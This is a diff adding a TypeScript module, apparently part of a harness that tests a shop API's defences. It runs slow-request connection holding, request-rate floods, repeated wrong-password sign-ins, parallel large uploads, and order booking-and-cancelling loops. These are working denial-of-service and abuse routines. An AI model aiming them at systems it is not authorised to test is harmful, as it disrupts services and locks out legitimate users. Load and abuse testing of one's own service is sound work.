@@ -1,0 +1,106 @@
+import { connect } from 'node:net';
+import { readFileSync } from 'node:fs';
+import { setTimeout as delay } from 'node:timers/promises';
+import { aForm, anOrder, Caller } from './caller.ts';
+
+type From = { shopUrl: string; address: string; token?: string };
+
+/** What someone does from one address until they are stopped. `{n}` in a path is another number each time. */
+export type Attack = From &
+  (
+    | { kind: 'hold'; path: string; type: string; bytes: number; connections: number }
+    | { kind: 'rate'; path: string; perSecond: number }
+    | { kind: 'sign-in'; email: string; connections: number }
+    | { kind: 'upload'; file: string; connections: number }
+    | { kind: 'book'; item: string; connections: number }
+  );
+
+/** What an attacker was answered so far. */
+export type Note = (answer: number | string) => void;
+
+export async function attack(how: Attack, note: Note): Promise<void> {
+  switch (how.kind) {
+    case 'hold':
+      return atOnce(how.connections, async () => hold(how, note));
+    case 'rate':
+      return callAt(how, note);
+    case 'sign-in':
+      return atOnce(how.connections, async () => {
+        const body = { email: how.email, password: `wrong ${Math.random()}` };
+        await callOnce(how, note, { method: 'POST', path: '/api/auth/sign-in/email', body });
+      });
+    case 'upload': {
+      const form = aForm(readFileSync(how.file));
+      const sent = { method: 'POST', path: '/api/images', bearer: how.token, ...form, patienceMs: 300_000 };
+      return atOnce(how.connections, async () => callOnce(how, note, sent));
+    }
+    case 'book':
+      return atOnce(how.connections, async () => bookAndCancel(how, note));
+  }
+}
+
+/** The same again and again, so many at once. Who is refused at once waits for a moment: floods are not what is tried. */
+async function atOnce(count: number, act: () => Promise<void>): Promise<void> {
+  const goOn = async (): Promise<void> => {
+    for (;;) {
+      await act();
+      await delay(20);
+    }
+  };
+  await Promise.all(Array.from({ length: count }, goOn));
+}
+
+async function callOnce(
+  { shopUrl, address }: From,
+  note: Note,
+  asked: Parameters<Caller['ask']>[0],
+): Promise<void> {
+  note((await new Caller(shopUrl, address).ask(asked)).status ?? 'cut');
+}
+
+/** Sends all of a request but the last byte of its body, and keeps the connection until it is closed. */
+function hold({ shopUrl, address, token, path, type, bytes }: Attack & { kind: 'hold' }, note: Note) {
+  const { hostname, port } = new URL(shopUrl);
+  const { promise, resolve } = Promise.withResolvers<void>();
+  const socket = connect({ host: hostname, port: Number(port), localAddress: address });
+  let answer = '';
+  socket.on('data', (part) => (answer ||= part.toString('latin1', 9, 12)));
+  socket.on('error', () => undefined);
+  socket.on('close', () => {
+    note(answer || 'cut');
+    resolve();
+  });
+  socket.write(
+    [
+      `POST ${path} HTTP/1.1`,
+      `host: ${hostname}`,
+      `content-type: ${type}`,
+      `content-length: ${bytes}`,
+      ...(token ? [`authorization: Bearer ${token}`] : []),
+      '\r\n',
+    ].join('\r\n'),
+  );
+  const head = '--form\r\ncontent-disposition: form-data; name="image"; filename="a.jpg"\r\n\r\n';
+  socket.write(type.startsWith('multipart') ? head : Buffer.alloc(bytes - 1, 0x20));
+  return promise;
+}
+
+/** Arrivals that wait for no answer. */
+async function callAt(how: Attack & { kind: 'rate' }, note: Note): Promise<void> {
+  const asked = { bearer: how.token, patienceMs: 20_000 };
+  const began = performance.now();
+  for (let count = 0; ; count++) {
+    await delay(Math.max(0, began + (count * 1000) / how.perSecond - performance.now()));
+    void callOnce(how, note, { ...asked, path: how.path.replace('{n}', String(count)) });
+  }
+}
+
+async function bookAndCancel({ shopUrl, address, token, item }: Attack & { kind: 'book' }, note: Note) {
+  const caller = new Caller(shopUrl, address);
+  const asked = { bearer: token, patienceMs: 10_000 };
+  const made = await caller.ask({ ...asked, method: 'POST', path: '/api/orders', body: anOrder(item) });
+  note(made.status ?? 'cut');
+  if (made.status !== 201) return;
+  const { _id } = JSON.parse(made.body) as { _id: string };
+  await caller.ask({ ...asked, method: 'DELETE', path: `/api/orders/${_id}` });
+}
